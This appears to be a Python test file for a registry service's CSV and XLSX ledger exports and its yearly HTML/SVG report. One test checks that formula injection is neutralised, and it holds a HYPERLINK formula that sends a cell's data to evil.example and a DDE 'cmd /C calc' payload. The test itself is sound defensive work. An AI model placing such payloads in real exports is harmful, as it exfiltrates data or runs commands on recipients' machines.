"""Exports open in the csv module and openpyxl and agree with the JSON; the yearly report and its charts."""

import csv
import io
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from services.registry.ledgers import export, service
from services.registry.ledgers.projector import Projector
from services.registry.ledgers.store import CONTRACTS, FIRMS, PATENTS, MemoryLedgerStore
from services.registry.reports import html
from services.registry.reports.svg import bar_chart, nice_ceiling
from services.registry.reports.yearly import yearly
from tests.unit.ledgers.script import YEAR, event, scripted_year

NAMES = ("contract-turnover", "firms", "patents", "financing", "funnel")


async def projected() -> MemoryLedgerStore:
    store = MemoryLedgerStore()
    for e in scripted_year().events:
        await Projector(store).handle(e)
    return store


def same(value: object) -> object:
    """A cell as the JSON has it: numbers compare as numbers (a spreadsheet keeps 6250000.0 as 6250000)."""
    if value is None or value == "":
        return ""
    try:
        return float(value)  # type: ignore[arg-type]
    except (TypeError, ValueError):
        return str(value)


def json_lines(table) -> list[list[object]]:
    body = table.as_json(None, None)
    keys = [c["key"] for c in body["columns"]]
    return [[c["header"] for c in body["columns"]], *([same(r.get(k)) for k in keys]
                                                       for r in [*body["rows"], body["totals"]])]


async def test_csv_has_a_bom_chinese_headers_a_totals_row_and_the_json_figures() -> None:
    store = await projected()
    for name in NAMES:
        table = await service.ledger(store, name, date(YEAR, 1, 1), date(YEAR, 12, 31), as_of=date(YEAR, 12, 31))
        raw = export.to_csv(table)
        assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
        lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert [[same(v) for v in line] for line in lines] == json_lines(table)
        assert any("\u4e00" <= ch <= "\u9fff" for ch in "".join(lines[0]))
        assert "合计" in lines[-1][0] or "合计" in lines[-1][1]


async def test_xlsx_opens_and_agrees_with_the_json() -> None:
    store = await projected()
    for name in NAMES:
        table = await service.ledger(store, name, date(YEAR, 1, 1), date(YEAR, 12, 31), as_of=date(YEAR, 12, 31))
        sheet = load_workbook(io.BytesIO(export.to_xlsx(table))).active
        cells = [[same(v) for v in row] for row in sheet.iter_rows(values_only=True)]
        assert cells == json_lines(table)


async def test_the_yearly_report_names_the_bureaus_kpis_and_matches_the_ledgers() -> None:
    store = await projected()
    contracts, firms, patents = (list(store.collections[c].values()) for c in (CONTRACTS, FIRMS, PATENTS))
    report = yearly(YEAR, contracts, firms, patents)
    by_key = {k["key"]: k for k in report["kpis"]}
    names = ["技术合同交易额", "新增高新技术企业", "专利申请量/授权量", "科技型中小企业"]
    assert [k["name"] for k in report["kpis"]][:4] == names
    turnover = await service.ledger(store, "contract-turnover", date(YEAR, 1, 1), date(YEAR, 12, 31), "year")
    assert by_key["technology_contract_turnover"]["figures"][0]["value"] == turnover.totals["registered_amount"]
    assert sum(by_key["technology_contract_turnover"]["chart"]["series"][0]["values"]) == \
        turnover.totals["registered_amount"]
    patent_table = await service.ledger(store, "patents", date(YEAR, 1, 1), date(YEAR, 12, 31))
    applied, granted = by_key["patents"]["figures"]
    assert (applied["value"], granted["value"]) == (patent_table.totals["applied"], patent_table.totals["granted"])
    assert by_key["new_high_tech_enterprises"]["figures"][0]["value"] == 1   # firm_a's certificate GR2025…
    assert by_key["new_high_tech_enterprises"]["figures"][0]["previous"] == 1  # firm_b's GR2024…
    assert by_key["tech_smes"]["figures"][0]["value"] == 1


async def test_the_html_report_has_one_well_formed_svg_chart_per_kpi() -> None:
    store = await projected()
    report = yearly(YEAR, *(list(store.collections[c].values()) for c in (CONTRACTS, FIRMS, PATENTS)))
    page = html.render(report)
    assert page.count("<svg") == len(report["kpis"])
    for kpi in report["kpis"]:
        assert kpi["name"] in page
    for chunk in page.split("<svg")[1:]:
        ET.fromstring("<svg" + chunk.split("</svg>")[0] + "</svg>")


def test_chart_bars_scale_to_a_round_axis() -> None:
    assert [nice_ceiling(v) for v in (0, 3, 12, 99, 101, 4_500_000)] == [1, 5, 20, 100, 200, 5_000_000]
    svg = ET.fromstring(bar_chart("测试 <图>", ["a", "b"], [("x", [50, 100])]))
    heights = [float(r.get("height")) for r in svg.iter("{http://www.w3.org/2000/svg}rect")]
    assert heights[1] == 2 * heights[0]


async def test_a_cell_that_looks_like_a_formula_stays_text_in_csv_and_xlsx() -> None:
    store = MemoryLedgerStore()
    name, region = '=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0"
    await Projector(store).handle(event("org.registered", "o1", {
        "id": "o1", "version": 1, "name": name, "kind": "firm", "region": region,
        "qualifications": [{"code": "tech_sme"}]}, datetime(YEAR, 3, 1, tzinfo=UTC)))
    table = await service.ledger(store, "firms", date(YEAR, 1, 1), date(YEAR, 12, 31), as_of=date(YEAR, 12, 31))

    row = list(csv.reader(io.StringIO(export.to_csv(table).decode("utf-8-sig"))))[1]
    assert row[1:3] == ["'" + name, "'" + region], "Excel runs a CSV cell starting with = + - @ as a formula"
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table))).active
    cells = sheet[2][1:3]
    assert [(c.value, c.data_type) for c in cells] == [(name, "s"), (region, "s")]


async def test_a_control_character_in_a_name_does_not_break_the_xlsx() -> None:
    store = MemoryLedgerStore()
    await Projector(store).handle(event("org.registered", "o1", {
        "id": "o1", "version": 1, "name": "坏\x01名\x0b", "kind": "firm", "qualifications": [{"code": "tech_sme"}]},
        datetime(YEAR, 3, 1, tzinfo=UTC)))
    table = await service.ledger(store, "firms", date(YEAR, 1, 1), date(YEAR, 12, 31), as_of=date(YEAR, 12, 31))
    sheet = load_workbook(io.BytesIO(export.to_xlsx(table))).active
    assert sheet["B2"].value == "坏名", "a worksheet cannot hold control characters: they are left out"
